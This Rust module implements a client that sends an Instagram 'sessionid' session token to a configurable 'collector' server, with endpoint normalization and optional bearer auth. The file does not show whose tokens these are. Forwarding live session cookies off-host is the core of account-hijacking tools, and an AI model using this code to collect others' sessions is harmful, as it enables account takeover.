use anyhow::Context;
use chrono::Utc;
use once_cell::sync::Lazy;
use regex::Regex;
use reqwest::header::{AUTHORIZATION, CONTENT_TYPE};
use reqwest::{Client, Url};
use serde::Serialize;
use std::sync::Arc;
use std::time::Duration;

use crate::error::{RelayError, Result};
use crate::state::SharedState;
use crate::store::{self, RELAY_ENDPOINT};
use crate::token::mask;

/// Collector used when no endpoint has been configured
pub const DEFAULT_ENDPOINT: &str = "http://127.0.0.1:8787/api/v1/tokens";

/// Path older configurations point at
pub const LEGACY_PATH: &str = "/token";

/// Path the collector serves today
pub const CURRENT_PATH: &str = "/api/v1/tokens";

const SERVICE: &str = "instagram";
const CREDENTIAL_KEY: &str = "sessionid";

// `<scheme> <value>` as in an already-formed Authorization header
static SCHEME_PATTERN: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^[A-Za-z][A-Za-z0-9!#$%&'*+.^_`|~-]*\s+\S").unwrap());

/// Wire body sent to the collector
#[derive(Debug, Serialize)]
pub struct DeliveryPayload<'a> {
    pub service: &'static str,
    pub key: &'static str,
    pub value: &'a str,
    pub ts: i64,
}

impl<'a> DeliveryPayload<'a> {
    pub fn new(value: &'a str, ts: i64) -> Self {
        Self {
            service: SERVICE,
            key: CREDENTIAL_KEY,
            value,
            ts,
        }
    }
}

/// Endpoint after normalization
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ResolvedEndpoint {
    pub url: String,
    /// The stored endpoint was missing or stale and should be rewritten
    pub needs_persist: bool,
}

/// Outcome of a confirmed delivery
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DeliveryReceipt {
    pub endpoint: String,
    pub status: u16,
    pub delivered_at_millis: i64,
}

/// Resolve the configured endpoint
///
/// - nothing configured → `DEFAULT_ENDPOINT`
/// - path exactly `LEGACY_PATH` → path replaced by `CURRENT_PATH`, rest kept
/// - anything else valid → returned unchanged
pub fn normalize_endpoint(configured: Option<&str>) -> Result<ResolvedEndpoint> {
    let raw = configured.map(str::trim).unwrap_or_default();
    if raw.is_empty() {
        return Ok(ResolvedEndpoint {
            url: DEFAULT_ENDPOINT.to_string(),
            needs_persist: true,
        });
    }

    let mut url =
        Url::parse(raw).map_err(|e| RelayError::InvalidEndpoint(format!("{}: {}", raw, e)))?;

    if url.path() == LEGACY_PATH {
        url.set_path(CURRENT_PATH);
        return Ok(ResolvedEndpoint {
            url: url.to_string(),
            needs_persist: true,
        });
    }

    Ok(ResolvedEndpoint {
        url: raw.to_string(),
        needs_persist: false,
    })
}

/// Authorization header value for a configured auth token
///
/// Values that already carry a scheme pass through; bare tokens get `Bearer `.
pub fn authorization_header(auth_token: Option<&str>) -> Option<String> {
    let token = auth_token.map(str::trim).filter(|t| !t.is_empty())?;

    let is_bearer = token
        .get(..7)
        .map(|prefix| prefix.eq_ignore_ascii_case("bearer "))
        .unwrap_or(false);

    if is_bearer || SCHEME_PATTERN.is_match(token) {
        Some(token.to_string())
    } else {
        Some(format!("Bearer {}", token))
    }
}

/// HTTP client for the collector endpoint
///
/// Relay settings are read from the store on every call so edits apply
/// without a restart.
#[derive(Clone)]
pub struct RelayClient {
    client: Client,
    state: Arc<SharedState>,
}

impl RelayClient {
    pub fn new(
        state: Arc<SharedState>,
        connect_timeout: Duration,
        request_timeout: Duration,
    ) -> anyhow::Result<Self> {
        let client = Client::builder()
            .connect_timeout(connect_timeout)
            .timeout(request_timeout)
            .build()
            .context("Failed to create HTTP client")?;

        Ok(Self { client, state })
    }

    /// Deliver outside the guard, reporting every failure
    pub async fn deliver_forced(&self, token: &str) -> Result<DeliveryReceipt> {
        if token.trim().is_empty() {
            return Err(RelayError::EmptyToken);
        }
        tracing::info!("Forced delivery of {}", mask(token));
        self.send(token).await
    }

    /// POST the token to the collector and record the delivery on 2xx
    pub async fn send(&self, token: &str) -> Result<DeliveryReceipt> {
        let store = self.state.store();
        let config = store::load_relay_config(store.as_ref()).await;

        let endpoint = normalize_endpoint(config.endpoint.as_deref())?;
        if endpoint.needs_persist {
            tracing::info!("Relay endpoint set to {}", endpoint.url);
            store::set_best_effort(store.as_ref(), RELAY_ENDPOINT, &endpoint.url).await;
        }

        let payload = DeliveryPayload::new(token, Utc::now().timestamp_millis());
        let mut request = self
            .client
            .post(&endpoint.url)
            .header(CONTENT_TYPE, "application/json")
            .json(&payload);

        if let Some(auth) = authorization_header(config.auth_token.as_deref()) {
            request = request.header(AUTHORIZATION, auth);
        }

        tracing::debug!(url = %endpoint.url, token = %mask(token), "Sending delivery");

        let response = request.send().await.map_err(|e| {
            let err = RelayError::from(e);
            tracing::warn!(url = %endpoint.url, error = %err, "Delivery request failed");
            err
        })?;

        let status = response.status();
        if !status.is_success() {
            let body = response.text().await.unwrap_or_default();
            tracing::error!(
                status = status.as_u16(),
                url = %endpoint.url,
                response_body = %body,
                "Collector rejected delivery"
            );
            return Err(RelayError::DeliveryRejected {
                status: status.as_u16(),
                body,
            });
        }

        let record = self.state.record_delivery(token).await;
        tracing::info!(
            status = status.as_u16(),
            url = %endpoint.url,
            "Delivered {}",
            mask(token)
        );

        Ok(DeliveryReceipt {
            endpoint: endpoint.url,
            status: status.as_u16(),
            delivered_at_millis: record.last_delivered_at_millis,
        })
    }
}
